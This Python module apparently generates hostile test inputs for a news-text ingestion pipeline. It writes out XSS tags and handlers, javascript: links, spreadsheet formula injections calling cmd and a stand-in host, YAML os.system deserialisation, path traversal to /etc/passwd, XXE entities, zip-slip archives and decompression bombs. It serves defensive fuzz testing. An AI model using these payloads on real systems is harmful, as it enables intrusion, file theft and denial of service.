"""Hostile inputs, generated: classes of attack written by us, put into every place that takes words.

Nothing here is taken from a list of others; each class says what it would do where it is not text only.
"""

from __future__ import annotations

import csv
import gzip
import html
import io
import json
import stat
import zipfile
from collections.abc import Callable, Iterator, Mapping

BODY = (
    "A storm cut power to 40,000 homes in Riga on Monday, the energy ministry said. Crews worked through "
    "the night to mend the lines, and schools in the capital will stay closed until Wednesday."
)

OUTSIDE = "outside.example"
"""The host that nothing may be loaded from."""


def _tags() -> Iterator[str]:
    """Tags that run, load or restyle, in spellings that filters miss."""
    act = "window.hacked=1"
    yield f"<script>{act}</script>"
    yield f"<SCRIPT\t>{act}</SCRIPT >"
    yield f"<scr<script>ipt>{act}</scr</script>ipt>"
    yield f"</script><script>{act}</script>"
    yield f"</style><script>{act}</script>"
    yield f"</title></textarea></noscript><script>{act}</script>"
    yield f"<!--><script>{act}</script>-->"
    yield f"<![CDATA[<script>{act}</script>]]>"
    yield f"<script src=//{OUTSIDE}/a.js></script>"
    for tag in ("iframe", "img", "embed", "video", "audio", "input type=image"):
        yield f"<{tag} src=https://{OUTSIDE}/a>"
    yield f"<object data=https://{OUTSIDE}/a></object>"
    yield f"<link rel=stylesheet href=https://{OUTSIDE}/a.css>"
    yield f"<base href=https://{OUTSIDE}/>"
    yield f"<meta http-equiv=refresh content='0;url=https://{OUTSIDE}/'>"
    yield "<style>body{display:none}</style>"
    yield f"<div style='background:url(https://{OUTSIDE}/a)'>x</div>"
    yield f"<form action=https://{OUTSIDE}/><button>go</button></form>"


def _handlers() -> Iterator[str]:
    """Event handlers, inside a tag and out of a value of an attribute."""
    act = "window.hacked=1"
    for tag, event in (
        ("img src=x", "onerror"),
        ("svg", "onload"),
        ("body", "onpageshow"),
        ("details open", "ontoggle"),
        ("input autofocus", "onfocus"),
        ("marquee", "onstart"),
        ("video src=x", "onerror"),
        ("a href=#", "onclick"),
        ("div", "onmouseover"),
    ):
        yield f"<{tag} {event}={act}>"
        yield f"<{tag}/{event}\n=\n'{act}'>"
    for quote in ("'", '"', "`"):
        yield f"{quote} onmouseover={act} x={quote}"
        yield f"{quote}><svg onload={act}>"


def _addresses() -> Iterator[str]:
    """Addresses that run, and links and images of Markdown that load."""
    for scheme in (
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "&#106;avascript:",
        "data:text/html,",
        "vbscript:",
    ):
        yield f"{scheme}window.hacked=1"
        yield f"[read on]({scheme}window.hacked=1)"
        yield f"<a href='{scheme}window.hacked=1'>read on</a>"
    yield f"![](https://{OUTSIDE}/a.png)"
    yield f"![a][b]\n\n[b]: https://{OUTSIDE}/a.png"
    yield f"[a](https://{OUTSIDE}/)"
    yield f"<https://{OUTSIDE}/>"
    yield f"www.{OUTSIDE}/a and https://{OUTSIDE}/b and a@{OUTSIDE}"


def _markup() -> Iterator[str]:
    """What Markdown, LaTeX and Streamlit would make into something else."""
    yield from (
        "$x^2$",
        "$$\\frac{1}{0}$$",
        "$\\href{javascript:window.hacked=1}{x}$",
        "$\\unicode{x41}$",
        "$100 and $200",
    )
    yield from (
        ":material/home:",
        ":red[alarm]",
        ":blue-background[x]",
        ":small[x]",
        ":badge[x]",
        ":rainbow[x]",
        ":smile:",
    )
    yield from (
        "# heading",
        "1. item",
        "- item",
        "> quote",
        "```code```",
        "`code`",
        "*a* _b_ **c** ~~d~~",
        "5~6 and 7~8",
    )
    yield from (
        "a | b\n--|--\n1 | 2",
        "line  \nbreak",
        "-> <- => --",
        "\\*not\\*",
        "[^1] and [^1]: note",
        "<!-- gone -->",
    )


def _entities() -> Iterator[str]:
    """Entities and encodings that turn into tags where somebody decodes them once more."""
    yield from (
        "&lt;script&gt;window.hacked=1&lt;/script&gt;",
        "&#60;script&#62;",
        "&#x3c;img src=x onerror=window.hacked=1&#x3e;",
    )
    yield from (
        "%3Cscript%3Ewindow.hacked%3D1%3C/script%3E",
        "\\u003cscript\\u003e",
        "\\x3cscript\\x3e",
        "+ADw-script+AD4-",
    )
    yield from (
        "＜script＞window.hacked=1＜/script＞",
        "&amp;lt;script&amp;gt;",
        "&notanentity; &",
        "]]>",
        "{{7*7}}",
        "{% raw %}",
        "${7*7}",
        "<%= 7*7 %>",
    )


def _formulas() -> Iterator[str]:
    """What a spreadsheet runs, also behind blanks that it drops."""
    calls = (
        "1+1",
        "cmd|' /C calc'!A0",
        f'HYPERLINK("http://{OUTSIDE}","x")',
        f'WEBSERVICE("http://{OUTSIDE}")',
        'DDE("a";"b";"c")',
    )
    for sign in (
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        " =",
        "\u200b=",
        "\ufeff=",
        "＝",
        "＋",
        "－",
        "＠",
    ):
        for call in calls:
            yield f"{sign}{call}"
    yield "@SUM(1+1)*cmd|' /C calc'!A0"
    yield "%0A=1+1"
    yield "'=1+1"
    yield '"=1+1"'


def _characters() -> Iterator[str]:
    """Characters that hide, turn round or break what stands beside them."""
    yield from (
        "\u202egnp.elif",
        "\u2066a\u2069 \u202b b \u202c",
        "\u200b\u200c\u200d\u2060\ufeff",
        "\u00ad" * 40,
    )
    yield from (
        "a\x00b",
        "\x00",
        "\x1b[31mred\x1b[0m",
        "\x07\x08",
        "\u2028line\u2029end",
        "\x85",
        "\ud83d",
        "\udc00\ud800",
        "\ufffe\uffff",
    )
    yield from (
        "e" + "\u0301" * 400,
        "Z\u0351\u036b\u0343a\u0351l\u0363g\u0300o" * 20,
        "\U0001f468\u200d\U0001f469\u200d\U0001f467",
        "\ufdfd" * 50,
    )
    yield from (
        "x" * 20_000,
        "(" * 5_000,
        "“" * 500,
        "a " * 5_000,
        "\n" * 2_000,
        "İ" * 200,
        "ß" * 200,
        "\U000e0041" * 50,
    )


def _paths() -> Iterator[str]:
    """Names that lead elsewhere."""
    for up in (
        "../",
        "..\\",
        "%2e%2e/",
        "....//",
        "..;/",
        "/",
        "C:\\",
        "\\\\host\\share\\",
        "file:///",
        "~/",
    ):
        yield f"{up * 3 if '.' in up else up}etc/passwd"
    yield from (
        "CON",
        "NUL.txt",
        "a/./b",
        "a//b",
        ".",
        "..",
        "",
        "a\x00.txt",
        "aux|b",
        "a:b",
        "?*<>",
        "x" * 300,
        ".ssh/id",
        "$HOME",
        "`id`",
        "$(id)",
    )


def _yaml() -> Iterator[str]:
    """Values that YAML takes for more than words."""
    yield from (
        "!!python/object/apply:os.system ['true']",
        "!!python/name:os.system",
        "!<tag:x> y",
        "*nobody",
        "&a [*a]",
        "{a: *b}",
    )
    yield from (
        "[[[[[[]]]]]]",
        "? x",
        "- - - -",
        "|",
        ">-",
        "%TAG ! x",
        "!!binary ====",
        "!!timestamp x",
        "yes",
        "~",
        "0o17",
        "1_000",
        "<<: *a",
    )


CLASSES: Mapping[str, Callable[[], Iterator[str]]] = {
    "tags": _tags,
    "handlers": _handlers,
    "addresses": _addresses,
    "markup": _markup,
    "entities": _entities,
    "formulas": _formulas,
    "characters": _characters,
    "paths": _paths,
    "yaml": _yaml,
}


def payloads() -> list[tuple[str, str]]:
    """Return every payload with the name of its class."""
    return [(name, payload) for name, make in CLASSES.items() for payload in make()]


def _bytes(text: str) -> bytes:
    return text.encode("utf-8", "surrogatepass")


def _text(payload: str) -> bytes:
    return _bytes(f"Storm\n\n{payload} {BODY}\n\n{payload}\n")


def _front(payload: str) -> bytes:
    fields = "\n".join(f"{name}: {payload}" for name in ("outlet", "headline", "note", "byline", "url"))
    return _bytes(f"---\n{fields}\n---\n{BODY}\n")


def _json(payload: str) -> bytes:
    fields = ("id", "outlet", "headline", "byline", "url", "note", "published")
    return json.dumps({**dict.fromkeys(fields, payload), "text": f"{BODY} {payload}"}).encode()


def _csv(payload: str) -> bytes:
    out = io.StringIO(newline="")
    rows = csv.writer(out)
    rows.writerow(["outlet", "headline", "note", "text"])
    rows.writerow([payload, payload, payload, f"{payload} {BODY}"])
    return _bytes(out.getvalue())


def _html(payload: str) -> bytes:
    safe = html.escape(payload)
    return _bytes(
        f"<html><head><title>{payload}</title><meta property='og:site_name' content='{safe}'></head>"
        f"<body><article><h1>{safe}</h1><p>{BODY}</p><p>{payload}</p><p>{safe} {BODY}</p>"
        "</article></body></html>"
    )


PLACES: Mapping[str, tuple[str, Callable[[str], bytes]]] = {
    "text": ("txt", _text),
    "front matter": ("md", _front),
    "json": ("json", _json),
    "csv": ("csv", _csv),
    "html": ("html", _html),
}


def files() -> Iterator[tuple[str, str, bytes]]:
    """Yield files as (what they are, name, content): every payload in every place, and as a name."""
    for number, (kind, payload) in enumerate(payloads()):
        for place, (ending, write) in PLACES.items():
            yield f"{kind} in {place}", f"{place.replace(' ', '-')}-{number}.{ending}", write(payload)
        if kind in ("tags", "handlers", "paths", "formulas", "characters"):
            yield f"{kind} as file name", f"{payload}.txt", _bytes(BODY)
    yield from structures()


def structures() -> Iterator[tuple[str, str, bytes]]:
    """Yield files whose structure is the attack: depth, aliases, archives."""
    for depth in (50, 300, 900, 5_000, 100_000):
        nested = "[" * depth + "]" * depth
        yield "json depth", f"deep-{depth}.json", f'{{"text": "{BODY}", "outlet": {nested}}}'.encode()
        nested = '{"name":' * depth + "1" + "}" * depth
        yield (
            "json depth",
            f"deep-object-{depth}.json",
            f'{{"text": "{BODY}", "byline": {nested}}}'.encode(),
        )
        yield (
            "yaml depth",
            f"deep-{depth}.md",
            f"---\noutlet: {'[' * depth}x{']' * depth}\n---\n{BODY}\n".encode(),
        )
    laughs = "\n".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 12))
    yield (
        "yaml aliases",
        "laughs.md",
        f"---\na0: &a0 [x, x]\n{laughs}\noutlet: *a11\n---\n{BODY}\n".encode(),
    )
    yield "yaml aliases", "self.md", f"---\nbyline: &a [*a, *a]\n---\n{BODY}\n".encode()
    yield "yaml size", "long.md", b"---\n" + b"k: [" + b"x," * 200_000 + b"]\n---\n" + BODY.encode()
    yield "html depth", "deep.html", b"<div>" * 5_000 + BODY.encode() + b"</div>" * 5_000
    doctype = (
        "<!DOCTYPE x [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;'><!ENTITY c SYSTEM 'file:///etc/passwd'>]>"
    )
    yield (
        "html entities",
        "entities.html",
        f"{doctype}<html><body><p>&b;&c; {BODY}</p><p>{BODY}</p></body></html>".encode(),
    )
    yield "csv width", "wide.csv", b"text," + b"a," * 20_000 + b"\n" + BODY.encode() + b"," * 20_000
    yield "csv quotes", "open.csv", f'text,outlet\n"{BODY},x\n'.encode()
    yield (
        "numbers",
        "numbers.json",
        f'{{"text": "{BODY}", "id": 1e999, "published": -1e308, "outlet": NaN}}'.encode(),
    )
    yield "numbers", "digits.json", f'{{"text": "{BODY}", "id": {"9" * 6_000}}}'.encode()
    for name, data in archives():
        yield "archive", name, data


def archives() -> Iterator[tuple[str, bytes]]:
    """Yield archives that lead out, hold archives, links or bombs, or are no archives."""
    for number, name in enumerate(
        (
            "../../up.txt",
            "/etc/cron.d/x.txt",
            "..\\..\\up.txt",
            "C:/x.txt",
            "a/../../b.txt",
            "\x00.txt",
            "ok/" * 200 + "a.txt",
        )
    ):
        yield f"out-{number}.zip", zipped({name: BODY.encode()})
    yield "nested.zip", zipped({"inner.zip": zipped({"a.txt": BODY.encode()}), "ok.txt": BODY.encode()})
    yield "matryoshka.gz", gzip.compress(gzip.compress(BODY.encode()))
    yield "link.zip", zipped({"link.txt": b"/etc/passwd"}, mode=stat.S_IFLNK | 0o777)
    yield "device.zip", zipped({"device.txt": BODY.encode()}, mode=stat.S_IFCHR | 0o666)
    yield "bomb.zip", zipped({"bomb.txt": b"0" * 5_000_000})
    yield "bomb.txt.gz", gzip.compress(b"0" * 20_000_000)
    yield "many.zip", zipped({f"{n}.txt": b"x" for n in range(300)})
    yield "twice.zip", zipped({"a.txt": BODY.encode(), "A.txt": BODY.encode(), "./a.txt": BODY.encode()})
    whole = zipped({"a.txt": BODY.encode() * 20})
    for cut in (0, 4, 22, len(whole) // 2, len(whole) - 1):
        yield f"cut-{cut}.zip", whole[:cut]
    yield "turned.zip", whole[:40] + bytes(255 - byte for byte in whole[40:80]) + whole[80:]
    yield "no.zip", b"PK\x03\x04" + b"\x00" * 100
    yield "text.zip", BODY.encode()
    yield "cut.txt.gz", gzip.compress(BODY.encode())[:-6]


def zipped(members: Mapping[str, bytes], *, mode: int = 0) -> bytes:
    """Pack members under names that no honest program would write."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            member = zipfile.ZipInfo("x")
            member.filename = name
            member.compress_type = zipfile.ZIP_DEFLATED
            member.external_attr = mode << 16
            archive.writestr(member, data)
    return out.getvalue()
